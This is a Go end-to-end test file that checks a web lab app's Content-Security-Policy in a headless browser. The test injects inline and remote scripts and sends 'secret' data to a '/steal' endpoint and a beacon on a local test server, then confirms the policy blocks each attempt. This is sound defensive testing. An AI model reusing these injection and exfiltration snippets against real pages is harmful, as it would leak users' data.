//go:build !js

package e2e

import (
	"context"
	"net/http"
	"net/http/httptest"
	"strings"
	"sync/atomic"
	"testing"
	"time"

	"github.com/chromedp/cdproto/cdp"
	cdppage "github.com/chromedp/cdproto/page"
	"github.com/chromedp/chromedp"
)

// recordViolations has the tab keep, in window.__csp, every
// securitypolicyviolation event of its pages, from before their first
// script: "directive blocked-URI sample".
var recordViolations = chromedp.Func(func(ctx context.Context, tg *chromedp.Target) error {
	_, err := cdp.Call(ctx, tg, cdppage.AddScriptToEvaluateOnNewDocument, cdppage.AddScriptToEvaluateOnNewDocumentParams{
		Source: `window.__csp = []; document.addEventListener("securitypolicyviolation",
			(e) => window.__csp.push(e.effectiveDirective + " " + e.blockedURI + " " + (e.sample || "")), true);`})
	return err
})

// violations returns the policy violations the page has seen.
func (p *page) violations() []string {
	p.t.Helper()
	return eval[[]string](p, `window.__csp || ["no recorder"]`)
}

// otherOrigin is a server on another origin that counts the requests it gets.
func otherOrigin(t *testing.T) (*httptest.Server, *atomic.Int64) {
	t.Helper()
	var hits atomic.Int64
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		hits.Add(1)
		w.Header().Set("Access-Control-Allow-Origin", "*")
		w.Write([]byte("window.__injected = 'from another origin';"))
	}))
	t.Cleanup(srv.Close)
	return srv, &hits
}

// runsUnderPolicy runs the default experiment on a page opened with
// recordViolations and checks that nothing the lab does breaks its policy:
// the data came from a worker, the run used workers, and no violation
// happened (checkConsole also fails on the console errors a violation
// logs).
func (p *page) runsUnderPolicy() {
	p.t.Helper()
	p.waitStatus(90*time.Second, "ready")
	if where := eval[string](p, `imlab.dataWhere()`); where != "worker" {
		p.t.Errorf("the data was generated on %q, want a worker", where)
	}
	p.do(chromedp.Click(chromedp.CSS("#run")))
	st := p.waitStatus(240*time.Second, "done")
	if n := eval[int](p, `imlab.workers()`); n < 1 {
		p.t.Errorf("the run used %d workers (%q)", n, st)
	}
	if v := p.violations(); len(v) > 0 {
		p.t.Errorf("policy violations: %q", v)
	}
}

// policyBlocks checks that the page's policy refuses what an injected script
// would do: run inline, load a script or an image from another origin, or
// send anything there. Each attempt is refused with a violation, and the
// other origin gets no request at all.
func (p *page) policyBlocks(other *httptest.Server, hits *atomic.Int64) {
	p.t.Helper()
	before := len(p.violations())
	got := eval[map[string]string](p, `(async () => {
		const out = {};
		const inline = document.createElement("script");
		inline.textContent = "window.__injected = 'inline';";
		document.body.append(inline);
		const remote = document.createElement("script");
		remote.src = `+"`"+other.URL+`/evil.js`+"`"+`;
		const loaded = new Promise((ok) => { remote.onload = () => ok("loaded"); remote.onerror = () => ok("refused"); });
		document.body.append(remote);
		out.remote = await loaded;
		const img = new Image();
		img.src = `+"`"+other.URL+`/pixel.png`+"`"+`;
		out.image = await new Promise((ok) => { img.onload = () => ok("loaded"); img.onerror = () => ok("refused"); });
		out.fetch = await fetch(`+"`"+other.URL+`/steal`+"`"+`, { method: "POST", body: "secret", mode: "no-cors" })
			.then(() => "sent", (e) => "refused");
		navigator.sendBeacon(`+"`"+other.URL+`/beacon`+"`"+`, "secret"); // refused or not, the server counts it
		await new Promise((ok) => setTimeout(ok, 300)); // violation events are queued as tasks
		out.injected = String(window.__injected);
		return out;
	})()`, chromedp.EvalAwaitPromise)
	want := map[string]string{"remote": "refused", "image": "refused", "fetch": "refused", "injected": "undefined"}
	for k, w := range want {
		if got[k] != w {
			p.t.Errorf("injected %s: %q, want %q", k, got[k], w)
		}
	}
	if n := hits.Load(); n != 0 {
		p.t.Errorf("the other origin got %d requests", n)
	}
	v := p.violations()[before:]
	for _, d := range []string{"script-src-elem", "img-src", "connect-src"} {
		found := false
		for _, x := range v {
			found = found || strings.HasPrefix(x, d+" ")
		}
		if !found {
			p.t.Errorf("no %s violation among %q", d, v)
		}
	}
	// The violations were meant: clear them and the console errors they
	// logged, so that checkConsole judges the rest.
	eval[bool](p, `(window.__csp.length = 0, true)`)
	p.mu.Lock()
	kept := p.console[:0]
	for _, m := range p.console {
		if !strings.Contains(m.Text, "Content Security Policy") {
			kept = append(kept, m)
		}
	}
	p.console = kept
	p.mu.Unlock()
}

// TestContentSecurityPolicyServed loads the served site (cmd/serve's
// handler, which sends the policy as a header; index.html has it in a
// <meta> too) on an origin of its own: the page loads, its data's worker
// fetches and compiles main.wasm, the default run completes on workers, the
// service worker registers and precaches the site, and nothing breaks the
// policy. Then the policy refuses what an injected script would do.
func TestContentSecurityPolicyServed(t *testing.T) {
	if skipReason != "" {
		t.Skip(skipReason)
	}
	srv := serveCopy(t, distDir())
	res, err := http.Get(srv.URL + "/lab/")
	if err != nil {
		t.Fatal(err)
	}
	res.Body.Close()
	header := res.Header.Get("Content-Security-Policy")
	for _, d := range []string{"default-src 'none'", "script-src 'self' 'wasm-unsafe-eval' 'sha256-", "connect-src 'self'",
		"worker-src 'self' blob:", "object-src 'none'", "base-uri 'none'", "form-action 'none'", "frame-ancestors 'none'"} {
		if !strings.Contains(header, d) {
			t.Errorf("the page's Content-Security-Policy header %q has no %q", header, d)
		}
	}
	if strings.Contains(header, "unsafe-inline") {
		t.Errorf("the policy allows unsafe-inline: %q", header)
	}
	p := openURL(t, srv.URL+"/lab/", recordViolations)
	if got := eval[string](p, `(document.querySelector('meta[http-equiv="Content-Security-Policy"]') || {}).content || ""`); !strings.HasPrefix(header, got) || got == "" {
		t.Errorf("index.html's <meta> policy %q is not the header's %q less frame-ancestors", got, header)
	}
	p.runsUnderPolicy()
	if eval[bool](p, `!imlabWorkers.wasmEntry`) {
		t.Error("the data's worker did not fetch main.wasm itself")
	}
	p.waitOfflineReady(90 * time.Second)
	if v := p.violations(); len(v) > 0 {
		t.Errorf("policy violations after the service worker's install: %q", v)
	}
	other, hits := otherOrigin(t)
	p.policyBlocks(other, hits)
}

// TestContentSecurityPolicySingleFile opens imlab.html from file:// (its
// policy a <meta>): the default run completes on workers from blob: URLs
// with no violation, and the policy refuses what an injected script would do.
func TestContentSecurityPolicySingleFile(t *testing.T) {
	if skipReason != "" {
		t.Skip(skipReason)
	}
	url, _ := singleFileCopy(t)
	p := openURL(t, url, recordViolations)
	policy := eval[string](p, `(document.querySelector('meta[http-equiv="Content-Security-Policy"]') || {}).content || ""`)
	for _, d := range []string{"default-src 'none'", "script-src 'wasm-unsafe-eval' 'sha256-", "connect-src 'none'", "worker-src blob:;"} {
		if !strings.Contains(policy, d) {
			t.Errorf("imlab.html's policy %q has no %q", policy, d)
		}
	}
	p.runsUnderPolicy()
	other, hits := otherOrigin(t)
	p.policyBlocks(other, hits)
}
